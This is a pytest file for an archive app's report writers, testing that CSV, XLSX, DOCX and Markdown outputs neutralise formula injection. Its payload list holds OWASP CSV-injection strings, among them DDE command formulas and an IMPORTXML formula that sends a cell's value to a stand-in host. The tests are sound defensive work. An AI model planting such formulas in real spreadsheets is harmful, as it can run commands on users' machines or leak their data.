"""Issue 21.3: formula injection. Every tabular writer (CSV, XLSX: reports and the units × years
table), every report route of the web and the CLI is fed the OWASP CSV-injection payloads — as
item headings, texts, authors, units, and a unit renamed by an editor to =HYPERLINK(…) — and what
comes out is text a spreadsheet never runs. DOCX and Markdown hold no cells: the payloads are
shown there as written, never as a Word field or a Markdown link, and no Markdown line begins like
a formula (a line pasted into a spreadsheet is a cell)."""
import csv
import datetime as dt
import html as htmlmod
import io
import re
import shutil
import zipfile
from urllib.parse import quote

import pytest

from archive.report.cells import FORMULA_START, csv_cell, formula_like
from conftest import app_on, cli_on

HYPERLINK = '=HYPERLINK("http://x.example/a")'
# OWASP "CSV Injection", and the full-width and white-space forms
PAYLOADS = [
    '=1+1', '+1+1', '-1+1', '@SUM(1+1)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/b","点此")',
    '\t=1+1', '\r=1+1', "=1+1\t", '＝1+1', '＋1+1', '－1+1', '＠SUM(1+1)', '"=1+1', "=2+5+cmd|' /C calc'!A0",
    '-2+3+cmd|\' /C calc\'!A0', '=IMPORTXML(CONCAT("http://x.example/?v=", A1), "//a")',
]
ITEMS = ["2021-005-001", "2021-005-002", "2021-005-003", "2021-005-004", "2021-005-005", "2021-005-006"]
RENAMED_FROM = "兰州铝业"


@pytest.mark.parametrize("text,live", [("=1+1", True), ("+1", True), ("-1", True), ("@A1", True), ("\t=1", True),
                                       ("\r=1", True), ("\n=1", True), ("＝1", True), ("＋1", True), ("－1", True),
                                       ("＠1", True), ("党史", False), ("1-1", False), ("'=1", False), ("", False),
                                       (" =1", False), ("2021-04", False)])
def test_what_begins_like_a_formula(text, live):
    assert formula_like(text) is live
    assert csv_cell(text) == ("'" + text if live else text)


def test_numbers_stay_numbers():
    assert csv_cell(-5) == -5 and csv_cell(0) == 0 and csv_cell(None) == ""


@pytest.fixture(scope="module")
def poisoned_data(samples_data, tmp_path_factory):
    """The samples with payloads everywhere a report shows text, and 兰州铝业 renamed to =HYPERLINK(…):
    made once for the module, each test gets a copy."""
    from archive.service.correcting import Editor
    from archive.store import DataDir
    root = tmp_path_factory.mktemp("poisoned") / "data"
    shutil.copytree(samples_data, root, symlinks=True)
    data = DataDir(root)
    with data.records() as records:
        ed = Editor(records, data)
        ed.unit_change("rename", RENAMED_FROM, HYPERLINK, who="恶意编辑")
        payloads = list(PAYLOADS)
        for n, item_id in enumerate(ITEMS):
            it = records.item(item_id)
            if it is None:
                continue
            for fld in ("heading", "author", "source"):
                if payloads:
                    ed.correct_item(item_id, "set", payloads.pop(), fld=fld, who="恶意编辑")
            if payloads:
                ed.correct_item(item_id, "set", payloads.pop() + "\n" + it["text"], fld="text", who="恶意编辑")
            if payloads:
                ed.correct_item(item_id, "add_unit", payloads.pop().strip()[:40], who="恶意编辑")
        assert not payloads, "every payload placed"
    return root


@pytest.fixture
def poisoned(poisoned_data, tmp_path):
    dest = tmp_path / "data"
    shutil.copytree(poisoned_data, dest, symlinks=True)
    with app_on(dest) as app:
        yield app


def core(payload: str) -> str:
    """What of a payload must be seen in the output (writers trim white space and cut long cells)."""
    return payload.strip()[:6]


def check_csv(data: bytes, want: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert len(rows) > 1 and [c for c in cells if formula_like(c)] == []
    for payload in want:
        assert any(core(payload) in c for c in cells), payload


def check_xlsx(data: bytes, want: list[str]) -> None:
    import openpyxl
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(?:\w+:)?f[ >]", z.read(name)), f"a formula in {name}"
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.quotePrefix or not formula_like(cell.value), (ws.title, cell.coordinate, cell.value)
                    seen.append(cell.value)
    for payload in want:
        assert any(core(payload) in v for v in seen), payload


def check_docx(data: bytes, want: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        body = z.read("word/document.xml").decode("utf-8")
    assert "instrText" not in body and "fldSimple" not in body and "w:hyperlink" not in body
    text = htmlmod.unescape(re.sub(r"<[^>]+>", "", body))
    for payload in want:
        assert core(payload) in text, payload


def check_md(data: bytes, want: list[str]) -> None:
    text = data.decode("utf-8")
    assert not [line for line in text.split("\n") if line.startswith(FORMULA_START)]
    assert "](" not in text.replace("\\](", "")  # no link made of a payload
    for payload in want:
        assert core(payload) in text.replace("\\", ""), payload


CHECKS = {"csv": check_csv, "xlsx": check_xlsx, "docx": check_docx, "md": check_md}
IN_ROWS = [HYPERLINK, "=1+1", "@SUM(1+1)", "+1+1", "-1+1"]  # a unit, an author, a text, a heading, a unit added
SHOWN = {"csv": IN_ROWS, "xlsx": IN_ROWS, "docx": IN_ROWS, "md": ["@SUM(1+1)", "+1+1"]}  # Markdown: no units, authors


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "docx", "md"])
def test_every_writer_takes_the_payloads_as_text(fmt):
    from archive.report import ReportMeta, write_report
    rows = [{"id": f"x-{n}", "issue": "2021-005", "year": 2021, "number": 5, "date": "2021-04-16", "section": p,
             "heading": p, "text": p + "\n正文", "units": [p], "author": p, "source": p, "page_start": 1,
             "page_end": 1, "citation": p, "citation_gbt": p} for n, p in enumerate(PAYLOADS)]
    meta = ReportMeta(title="=1+1", query="=HYPERLINK(\"http://x.example/q\")", filters={"单位": HYPERLINK},
                      generated=dt.datetime(2024, 5, 1, 14, 30))
    out = io.BytesIO()
    assert write_report(rows, meta, fmt, out) == len(PAYLOADS)
    CHECKS[fmt](out.getvalue(), [p for p in PAYLOADS if p.strip()])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_units_table_writes_a_unit_named_like_a_formula_as_text(fmt):
    from archive.report.tables import UnitsTable, write_units_table
    table = UnitsTable([2020, 2021], [(p, [1, 2], 3) for p in PAYLOADS])
    out = io.BytesIO()
    write_units_table(table, fmt, out)
    CHECKS[fmt](out.getvalue(), [p for p in PAYLOADS if p.strip()])


def test_the_search_and_unit_report_routes(poisoned):
    for fmt in CHECKS:
        search_and_unit_reports(poisoned.test_client(), fmt)


def search_and_unit_reports(client, fmt):
    r = client.get(f"/report.{fmt}?year=2021")
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    CHECKS[fmt](r.data, SHOWN[fmt])
    r = client.get(f"/units/{quote(HYPERLINK, safe='')}/report.{fmt}")
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    CHECKS[fmt](r.data, [] if fmt == "csv" else [HYPERLINK])  # rows name the unit as printed; the title, the new name


def test_the_units_by_year_route(poisoned):
    for fmt in ("csv", "xlsx"):
        r = poisoned.test_client().get(f"/reports/units-by-year.{fmt}")
        assert r.status_code == 200
        CHECKS[fmt](r.data, [HYPERLINK])


def test_the_command_line_reports(poisoned, tmp_path):
    for fmt in CHECKS:
        command_line_reports(cli_on(poisoned.config["DATA_DIR"]), tmp_path, fmt)


def command_line_reports(app_cli, tmp_path, fmt):
    out = tmp_path / f"r.{fmt}"
    res = app_cli("report", "--year", "2021", "-o", out)
    assert res.exit_code == 0, res.output
    CHECKS[fmt](out.read_bytes(), SHOWN[fmt])
    if fmt in ("csv", "xlsx"):
        table = tmp_path / f"t.{fmt}"
        assert app_cli("units", "--by-year", "-o", table).exit_code == 0
        CHECKS[fmt](table.read_bytes(), [HYPERLINK])
